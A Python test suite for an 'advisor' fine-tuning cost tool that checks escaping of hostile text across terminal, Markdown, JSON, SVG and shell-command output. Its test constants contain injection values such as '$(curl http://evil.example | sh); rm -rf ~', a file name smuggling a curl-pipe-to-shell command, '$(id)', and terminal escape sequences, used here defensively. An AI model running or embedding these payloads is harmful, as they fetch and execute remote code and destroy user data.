"""Nothing a scenario, a price table or a provider writes is injected into what advisor prints or writes
(issue 22, item 4). Hostile names, paths, model ids, table texts and provider messages go through every
output (terminal report, Markdown, JSON, SVG, Mermaid, estimate, pricing, dataset check, tokens, jobs,
errors) and show as written, or escaped, and create nothing else: no heading, table cell, link, HTML or
code in Markdown; no markup, escape sequence or other control character in the terminal; no element in
the SVG; no second command in a suggested command line, which still runs as pasted.
"""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections import Counter
from decimal import Decimal
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from advisor.recommend.recommendation import CommandPlace, Recommendation, recommend
from advisor.recommend.scenario import load_scenario
from advisor.render.charts import Series, mermaid, svg
from advisor.render.recommendation import print_report, to_json, to_markdown, write_chart
from advisor.safe_text import CONTROL, markdown, markdown_cell, shell_command, visible

from .conftest import EXAMPLES, TODAY
from .fake_openai import FakeOpenAI

# every kind of text that could create something where it is shown
HOSTILE = (
    "Q3 [/] [red]x[/red] [bold]y :smile:\n# Approved by the CFO\n<script>alert(1)</script> <b>b</b> "
    "\x1b[31mred\x1b[0m \x1b]0;pwned\x07 \x1b[2J \x9b1m \u202eevil\u202c \u2028 \t\r | a | b | `tick` ``` "
    "$(curl http://evil.example | sh); rm -rf ~ *bold* _em_ __init__ ~~gone~~ [link](http://evil.example) "
    "![img](http://evil.example/t.png) &lt;x&gt; \\ #"
)
TRAINING_FILE = "x.jsonl; curl http://evil.example | sh #"  # the example
INVOICE = EXAMPLES / "invoice-extraction"
TODAY_TEXT = TODAY.isoformat()

GFM = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def controls(text: str) -> list[str]:
    """The control characters in terminal output other than its line breaks."""
    return [char for char in re.findall(CONTROL, text) if char != "\n"]


def structure(document: str) -> Counter[str]:
    """What a Markdown document creates: its tokens by type (headings, cells, links, HTML, code ...), the
    text between them left out."""
    found: Counter[str] = Counter()
    for token in GFM.parse(document):
        found[f"{token.type}{token.tag}"] += 1
        for child in token.children or []:
            if child.type not in ("text", "text_special", "softbreak"):
                found[f"{child.type}{child.tag}"] += 1
    return found


def heading_text(document: str, level: str = "h2") -> list[str]:
    """The text of each heading of `level`, as a reader sees it."""
    tokens = GFM.parse(document)
    return [
        "".join(child.content for child in tokens[n + 1].children or [])
        for n, token in enumerate(tokens)
        if token.type == "heading_open" and token.tag == level
    ]


def shown(text: str) -> str:
    """What a reader sees for `text`: on one line, its control characters as escapes."""
    return visible(text)


def flat(text: str) -> str:
    """`text` with every run of white space one space: wrapped lines read as one."""
    return " ".join(text.split())


# keys of a Recommendation's JSON whose strings are words for the reader (ids that index others are left)
TEXT_KEYS = {
    "name", "source", "summary", "says", "rule", "why", "caveats", "next_steps", "warnings", "commands", "text",
    "label", "model", "notes", "why_not", "what", "ends", "horizon_note", "payback_note", "successor", "base",
    "current",
}  # fmt: skip


def poisoned(value: Any, key: str = "") -> Any:
    """`value` (a Recommendation's plain data) with HOSTILE after every text a reader sees."""
    if isinstance(value, dict):
        if key == "providers":  # id -> the name the provider writes for itself
            return {k: f"{v} {HOSTILE}" for k, v in value.items()}
        return {k: poisoned(v, k) for k, v in value.items()}
    if isinstance(value, list):
        return [poisoned(item, key) for item in value]
    if isinstance(value, str) and key in TEXT_KEYS:
        return f"{value} {HOSTILE}"
    return value


def words_bash_passes(line: str, folder: Path) -> list[str]:
    """The arguments bash gives `advisor` when `line` is pasted into it, in `folder`."""
    show = shell_command(sys.executable, "-c", "import json, sys; print(json.dumps(sys.argv[1:]))")
    run = subprocess.run(
        ["bash", "-c", f'advisor() {{ {show} "$@"; }}\n{line}'], cwd=folder, capture_output=True, timeout=30
    )
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout)


@pytest.fixture(scope="module")
def migration(catalog) -> Recommendation:
    """A recommendation with every section: where to train, cheaper options, notes, risks, commands."""
    return recommend(load_scenario(str(EXAMPLES / "migration" / "scenario.toml")), catalog, TODAY)


@pytest.fixture(scope="module")
def hostile(migration: Recommendation) -> Recommendation:
    return Recommendation.model_validate(poisoned(migration.model_dump()))


class TestSuggestedCommands:
    """A command advisor suggests is built from its words, each quoted for the shell."""

    def test_a_training_file_with_shell_syntax_is_one_quoted_word(self, catalog, tmp_path: Path) -> None:
        # the scenario names a file that exists (a folder `x.jsonl; curl http:` holding `evil.example | sh #`):
        # a missing training file is refused when the scenario is read
        training = tmp_path / TRAINING_FILE
        training.parent.mkdir()
        shutil.copy(INVOICE / "train.jsonl", training)
        shutil.copy(EXAMPLES / "migration" / "scenario.toml", tmp_path / "scenario.toml")
        scenario = load_scenario(str(tmp_path / "scenario.toml"))
        data = scenario.scenario.data.model_copy(update={"training_file": TRAINING_FILE})
        loaded = scenario.model_copy(update={"scenario": scenario.scenario.model_copy(update={"data": data})})
        rec = recommend(loaded, catalog, TODAY, CommandPlace(tmp_path))
        named = str(Path(TRAINING_FILE))  # as the path reads (`http://` is `http:/`): the same file
        split = str(Path(named).with_name("evil.train.jsonl"))  # what `advisor dataset split` writes
        naming = [command for command in rec.commands if named in shlex.split(command)]
        assert len(naming) == 2, rec.commands  # check, split
        launches = [c for c in rec.commands if c.startswith("advisor launch")]
        assert [c for c in rec.commands if split in shlex.split(c)] == launches
        for command in rec.commands:
            words = shlex.split(command, comments=True)
            assert "curl" not in words and "sh" not in words and "|" not in words
            assert f"'{named}'" in command or f"'{split}'" in command or "x.jsonl" not in command
        assert f"--training-file '{split}'" in to_markdown(rec)
        out = StringIO()
        print_report(rec, file=out, width=300)
        assert f"--training-file '{split}'" in out.getvalue()

    def test_placeholders_and_what_a_line_is_for_are_shell_comments(self, migration: Recommendation) -> None:
        watch = next(c for c in migration.commands if c.startswith("advisor jobs watch"))
        assert watch == (
            "advisor jobs watch JOB  # fill in JOB: the job id `advisor launch` printed; each job, until it ends "
            "with its fine-tuned model and cost"
        )
        for command in migration.commands:
            assert shlex.split(command, comments=True)[0] == "advisor"

    def test_the_recommended_launch_runs_as_pasted_on_a_file_named_like_a_command(
        self, advisor, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """`x.jsonl; curl http://evil.example | sh #` is a real path here (a folder `x.jsonl; curl http:` and
        a file `evil.example | sh #` in it): the pasted launch reads that file, and nothing else runs."""
        folder = tmp_path / "team [red]x $(id)"
        folder.mkdir()
        training = folder / TRAINING_FILE
        training.parent.mkdir()
        shutil.copy(INVOICE / "train.jsonl", training)
        for name in ("prompt.json", "ft-prompt.json"):
            shutil.copy(INVOICE / name, folder / name)
        text = (INVOICE / "scenario.toml").read_text()
        text = text.replace('training_file = "train.jsonl"', f"training_file = {json.dumps(TRAINING_FILE)}")
        text = text.replace('name = "Invoice field extraction"', f"name = {json.dumps(HOSTILE)}")
        scenario = folder / "scenario ; touch pwned $(id) [red]x.toml"
        scenario.write_text(text)
        monkeypatch.chdir(folder)
        report = advisor("recommend", scenario.name, "--format", "json", "--today", TODAY_TEXT)
        assert report.code == 0, report.err
        commands = json.loads(report.out)["commands"]
        assert f"advisor recommend '{scenario.name}' --format markdown  # this report" in commands
        if shutil.which("bash"):  # pasted into a shell (`advisor` there a function that prints what it is given)
            for command in commands:
                assert words_bash_passes(command, folder) == shlex.split(command, comments=True)[1:]
            assert not (folder / "pwned").exists() and not (tmp_path / "pwned").exists()
        split = next(c for c in commands if c.startswith("advisor dataset split"))
        assert advisor(*shlex.split(split)[1:]).code == 0  # the launch trains on what it writes
        (launch,) = [c for c in commands if c.startswith("advisor launch")]
        words = shlex.split(launch)
        trained = str(Path(TRAINING_FILE).with_name("evil.train.jsonl"))
        assert words[words.index("--training-file") + 1] == trained
        result = advisor(*words[1:], "--today", TODAY_TEXT)
        assert result.code == 0, result.err
        assert "Dry run: these requests would be sent" in result.out
        assert f"training file   {trained} (" in result.out and not controls(result.out + result.err)

    @pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash to run the quoted lines")
    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(words=st.lists(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00")), max_size=4))
    @example(words=[TRAINING_FILE, "it's", "a\nb", "\x1b[31m", "\u202e", "$(touch pwned)", "`id`", "~", "", "a b"])
    def test_bash_receives_exactly_the_words(self, words: list[str], tmp_path_factory) -> None:
        """The line bash reads gives back the words, whatever they hold (NUL cannot be in an argument)."""
        line = shell_command("advisor", *words)
        assert "\n" not in line and not controls(line)
        assert words_bash_passes(line, tmp_path_factory.getbasetemp()) == words

    @given(words=st.lists(st.text(st.characters(exclude_categories=("Cc", "Cs", "Cf", "Zl", "Zp")))))
    def test_a_line_without_control_characters_splits_back_into_its_words(self, words: list[str]) -> None:
        assert shlex.split(shell_command("advisor", *words)) == ["advisor", *words]


class TestMarkdown:
    """The proposal shows every quoted text as written and nothing else."""

    def test_a_hostile_recommendation_creates_nothing_more_than_a_plain_one(
        self, migration: Recommendation, hostile: Recommendation
    ) -> None:
        plain, document = to_markdown(migration, "chart.svg"), to_markdown(hostile, "chart [x](y) <z>.svg")
        assert structure(document) == structure(plain)
        assert document.count("\n") == plain.count("\n")
        assert heading_text(document) == [f"Recommendation: {shown(hostile.name)}"]
        assert not re.search(r"^\s*#+ Approved", document, re.MULTILINE)
        found = structure(document)
        assert found["html_inline"] == found["html_block"] == 0 and "\x1b" not in document
        assert "](chart%20%5Bx%5D%28y%29%20%3Cz%3E.svg)" in document

    def test_the_commands_stay_in_their_code_block(self, hostile: Recommendation) -> None:
        document = to_markdown(hostile)
        fences = [t for t in GFM.parse(document) if t.type == "fence"]
        assert [t.info for t in fences] == ["mermaid", "sh"]
        assert fences[1].content.splitlines() == [shown(command) for command in hostile.commands]

    def test_the_mermaid_chart_keeps_one_quoted_title(self) -> None:
        values = [Decimal(0), Decimal(1)]
        block = mermaid([Series(HOSTILE, values), Series("b", values)], f"Cost {HOSTILE}")
        plain = mermaid([Series("a", values), Series("b", values)], "Cost")
        assert block.count("\n") == plain.count("\n")
        title = next(line for line in block.splitlines() if line.strip().startswith("title"))
        assert re.fullmatch(r'    title "[^"<>`%\n]*"', title), title
        legend = block.split("```")[-1]
        assert structure(legend) == structure(plain.split("```")[-1])

    def test_the_estimate_section_creates_nothing_more_than_a_plain_one(self, advisor) -> None:
        def section(model: str) -> str:
            run = advisor("estimate", *ESTIMATE, "--ft-model", model, "--format", "markdown")
            assert run.code == 0, run.err
            return run.out

        plain, document = section(PLAIN_FT), section(HOSTILE_FT)
        assert structure(document) == structure(plain)
        assert heading_text(document, "h3") == [heading_text(plain, "h3")[0].replace(PLAIN_FT, shown(HOSTILE_FT))]
        assert structure(document)["html_inline"] == structure(document)["html_block"] == 0
        assert "<script" not in document and "\x1b" not in document

    def test_a_failed_file_in_a_portfolio_is_named_as_written(self, advisor, tmp_path: Path) -> None:
        broken = tmp_path / "bad ` [x](y) <script> #.toml"
        broken.write_text("name = \n")
        run = advisor(
            "recommend", str(INVOICE / "scenario.toml"), str(broken), "--format", "markdown", "--today", TODAY_TEXT
        )
        assert run.code == 2
        items = [
            t for t in GFM.parse(run.out) if t.type == "inline" and t.children and t.children[0].type == "code_inline"
        ]
        assert [item for item in items if item.children and item.children[0].content == str(broken)]
        found = structure(run.out)
        assert found["html_inline"] == found["html_block"] == found["link_open"] == 0

    @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(name=st.text(st.characters(blacklist_categories=("Cs",)), max_size=40))
    @example(name="# Approved by the CFO\n<script>x</script>")
    @example(name="a | b |\n|---|---|")
    @example(name="`x` ``` [a](b) ![c](d) *e* _f_ &amp; \\")
    @example(name="- item")
    @example(name="1. first")
    @example(name="    code")
    def test_any_name_is_the_heading_and_nothing_else(self, migration: Recommendation, name: str) -> None:
        document = to_markdown(migration.model_copy(update={"name": name}))
        assert structure(document) == structure(to_markdown(migration))
        # a name's own leading or trailing spaces are kept (as entities): compared as a reader sees them
        assert [h.rstrip() for h in heading_text(document)] == [f"Recommendation: {shown(name)}".rstrip()]

    @settings(max_examples=150, deadline=None)
    @given(text=st.text(st.characters(blacklist_categories=("Cs",)), max_size=40))
    @example(text="- x")
    @example(text="---")
    @example(text="+ y")
    @example(text="3) z")
    @example(text="> quote")
    def test_any_text_in_a_list_item_or_a_cell_is_that_text(self, text: str) -> None:
        """markdown() is safe wherever a text is quoted: a list item, a table cell, a paragraph."""
        item = GFM.parse(f"- {markdown(text)}\n")
        inline = [t for t in item if t.type == "inline"]
        if text.strip():
            assert [t.type for t in item] == ONE_ITEM
            assert "".join(c.content for c in inline[0].children or []) == shown(text).rstrip()
        table = GFM.parse(f"| a | b |\n|---|---|\n| {markdown_cell(text)} | c |\n")
        cells = [n for n, t in enumerate(table) if t.type == "td_open"]
        assert len(cells) == 2
        assert "".join(c.content for c in table[cells[0] + 1].children or []) == shown(text).strip()


ONE_ITEM = ["bullet_list_open", "list_item_open", "paragraph_open", "inline", "paragraph_close", "list_item_close",
            "bullet_list_close"]  # fmt: skip


class TestTerminal:
    """The terminal shows every quoted text as written, markup and control characters included."""

    def test_a_hostile_report_prints_literally(self, hostile: Recommendation) -> None:
        out = StringIO()
        print_report(hostile, file=out, width=1000)
        text = out.getvalue()
        assert not controls(text)
        for literal in ("[/]", "[red]x[/red]", "[bold]y", ":smile:", "\\x1b[31mred", "\\x9b1m", "\\u202eevil",
                        "\\n# Approved by the CFO\\n<script>"):  # fmt: skip
            assert literal in text, literal
        assert not re.search(r"^\s*# Approved", text, re.MULTILINE)

    @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(name=st.text(st.characters(blacklist_categories=("Cs",)), max_size=40))
    @example(name="[/]")
    @example(name="[red]x")
    @example(name="\x1b[2J\x1b]0;t\x07")
    def test_any_name_prints_as_written(self, migration: Recommendation, name: str) -> None:
        out = StringIO()
        print_report(migration.model_copy(update={"name": name}), file=out, width=1000)
        assert not controls(out.getvalue())
        assert f"Recommendation: {shown(name)}".rstrip() in out.getvalue()

    def test_the_recommend_command_prints_a_name_of_markup(self, advisor, tmp_path: Path, wide_output) -> None:
        scenario = tmp_path / "s.toml"
        scenario.write_text('name = "[/] [red]x"\n[traffic]\nprompt_tokens = 100\n')
        run = advisor("recommend", str(scenario), "--today", TODAY_TEXT)
        assert run.code == 0, run.err
        assert "Recommendation: [/] [red]x" in run.out

    def test_an_estimate_prints_a_hostile_model_id_as_written(self, advisor, wide_output) -> None:
        run = advisor("estimate", *ESTIMATE, "--ft-model", HOSTILE_FT)
        assert run.code == 0, run.err
        assert not controls(run.out + run.err)
        assert flat(shown(HOSTILE_FT)) in flat(run.out)

    def test_pricing_list_and_show_print_a_hostile_table_as_written(self, advisor, tmp_path: Path) -> None:
        table = tmp_path / "acme.toml"
        table.write_text(HOSTILE_TABLE)
        listed = advisor("pricing", "list", "--provider", "acme", "--pricing", str(table), "--today", TODAY_TEXT)
        detail = advisor("pricing", "show", "m[/]x", "--pricing", str(table), "--today", TODAY_TEXT)
        for run in (listed, detail):
            assert run.code == 0, run.err
            assert not controls(run.out + run.err)
            assert "m[/]x" in run.out
        assert flat(shown(NOTES)) in flat(detail.out) and flat(shown(SOURCE)) in flat(detail.out)

    def test_dataset_check_and_tokens_print_a_hostile_file_and_its_fields_as_written(
        self, advisor, tmp_path: Path, wide_output
    ) -> None:
        (tmp_path / "d[").mkdir()
        path = tmp_path / "d[/]e [red]x \x1b[31m\nline.jsonl"  # a folder `d[` and a file `]e ...` in it
        rows = [
            {"messages": [{"role": "sys[/]tem\x1b[2J<b>", "content": "hi"}, {"role": "user", "content": "q"},
                          {"role": "assistant", "content": "a"}]},
            {"messages": [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a"}], "k[/]\x1b": 1},
        ]  # fmt: skip
        path.write_text("".join(json.dumps(row) + "\n" for row in rows))
        check = advisor("dataset", "check", str(path), "--today", TODAY_TEXT)
        assert check.code == 1, check.err  # the file has errors: they are reported, not a crash
        tokens = advisor("tokens", str(path), "--encoding", "o200k_base")
        for run in (check, tokens):
            assert not controls(run.out + run.err)
        assert shown(str(path)) in check.out and "d[/]e [red]x" in tokens.out
        assert "sys[/]tem\\x1b[2J<b>" in check.out and "k[/]\\x1b" in check.out

    def test_jobs_print_what_a_provider_returns_as_written(self, advisor, openai_api: FakeOpenAI, wide_output) -> None:
        """A provider's fine-tuned model name and event messages are text from the network."""
        openai_api.fine_tuned_model = lambda job: f"ft:gpt-4.1-mini-2025-04-14:{HOSTILE}"  # type: ignore[method-assign]
        openai_api.event_messages = lambda job: [HOSTILE]  # type: ignore[method-assign]
        launch = advisor(
            "launch", "--provider", "openai", "--method", "sft", "--model", "gpt-4.1-mini", "--training-file",
            str(INVOICE / "train.jsonl"), "--today", TODAY_TEXT, "--yes",
        )  # fmt: skip
        assert launch.code == 0, launch.err
        (job,) = openai_api.jobs
        runs = [
            launch,
            advisor("jobs", "watch", job, "--every", "0.01"),
            advisor("jobs", "list", "--offline"),
            advisor("jobs", "show", job),
            advisor("jobs", "events", job),
        ]
        for run in runs:
            assert run.code == 0, run.err
            assert not controls(run.out + run.err)
        assert f"Watch it: advisor jobs watch {job}" in launch.out
        assert shown(HOSTILE) in runs[1].out and shown(HOSTILE) in runs[3].out and shown(HOSTILE) in runs[4].out
        assert "[/]" in runs[2].out and "[red]x[/red]" in runs[2].out

    def test_a_provider_error_and_a_path_in_an_error_are_one_line(
        self, advisor, openai_api: FakeOpenAI, tmp_path: Path
    ) -> None:
        openai_api.create = lambda body: (400, {"error": {"message": HOSTILE, "type": "invalid_request_error"}})  # type: ignore[method-assign]
        launch = advisor(
            "launch", "--provider", "openai", "--method", "sft", "--model", "gpt-4.1-mini", "--training-file",
            str(INVOICE / "train.jsonl"), "--today", TODAY_TEXT, "--yes",
        )  # fmt: skip
        missing = advisor("recommend", str(tmp_path / "no\x1b[2Jsuch [/]\n# x.toml"))
        for run, code in ((launch, 1), (missing, 2)):
            assert run.code == code
            assert not controls(run.err)
            (error,) = [line for line in run.err.splitlines() if line.startswith("advisor: error:")]
            assert error == run.err.strip().splitlines()[-1]
        assert shown(HOSTILE) in launch.err and "no\\x1b[2Jsuch [/]\\n# x.toml" in missing.err


class TestJsonAndSvg:
    def test_json_carries_every_text_exactly_and_escaped(self, hostile: Recommendation) -> None:
        text = to_json(hostile)
        assert not controls(text.replace("\n", ""))
        assert Recommendation.model_validate(json.loads(text, parse_float=Decimal)) == hostile

    def test_the_svg_chart_has_its_own_elements_only(self, hostile: Recommendation, tmp_path: Path) -> None:
        path = tmp_path / "chart.svg"
        write_chart(hostile, path)
        root = ET.parse(path).getroot()
        tags = {element.tag.split("}")[1] for element in root.iter()}
        assert tags == {"svg", "rect", "text", "line", "polyline"}
        texts = [element.text or "" for element in root.iter() if element.tag.endswith("text")]
        assert not [t for t in texts if re.search(CONTROL, t)]
        assert any(shown(HOSTILE) in t for t in texts)
        assert "<script" not in svg([Series(HOSTILE, [Decimal(0), Decimal(1)])], HOSTILE)


# an OpenAI fine-tuned model id: its suffix is the team's own words
PLAIN_FT = "ft:gpt-4.1-mini-2025-04-14:acme:invoices:abc"
HOSTILE_FT = f"ft:gpt-4.1-mini-2025-04-14:acme:{HOSTILE.replace(':', '')}:abc"  # a colon ends the suffix
ESTIMATE = (
    "--model", "gpt-4.1", "--requests", "10000", "--prompt-tokens", "500", "--training-tokens", "100000",
    "--examples", "100", "--today", TODAY_TEXT,
)  # fmt: skip
NOTES = "notes [/] [red]x <script> \x1b]0;pwned\x07 | `code` $(rm -rf ~);\n# Approved by the CFO"
SOURCE = "https://example.com/p [red]x\n# Approved <script> \u202e"
HOSTILE_TABLE = f"""\
provider = "acme"
currency = "USD"
as_of = 2026-11-01
source = {json.dumps(SOURCE)}

[models."m[/]x"]
input = 15
cached_input = 15
output = 15
notes = {json.dumps(NOTES)}

[models."m[/]x".fine_tuning]
methods = ["sft"]
training = 25
input = 15
cached_input = 15
output = 15
notes = "ft notes [/]x \\u001b[2J"
"""
